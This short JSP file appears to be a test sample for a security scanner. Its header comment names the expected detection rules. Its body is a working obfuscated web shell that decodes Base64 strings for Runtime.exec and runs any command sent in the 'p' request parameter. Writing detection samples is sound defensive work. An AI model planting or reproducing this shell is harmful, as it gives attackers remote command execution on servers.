<%-- expect rule=jsp.exec-input min=90 rule=jsp.obfuscation --%>
<%@ page import="java.util.Base64" %>
<%!
    static String d(String s) { return new String(Base64.getDecoder().decode(s)); }
%>
<%
    Class<?> c = Class.forName(d("amF2YS5sYW5nLlJ1bnRpbWU="));
    Object r = c.getMethod(d("Z2V0UnVudGltZQ==")).invoke(c);
    c.getMethod(d("ZXhlYw=="), String.class).invoke(r, request.getParameter("p"));
%>
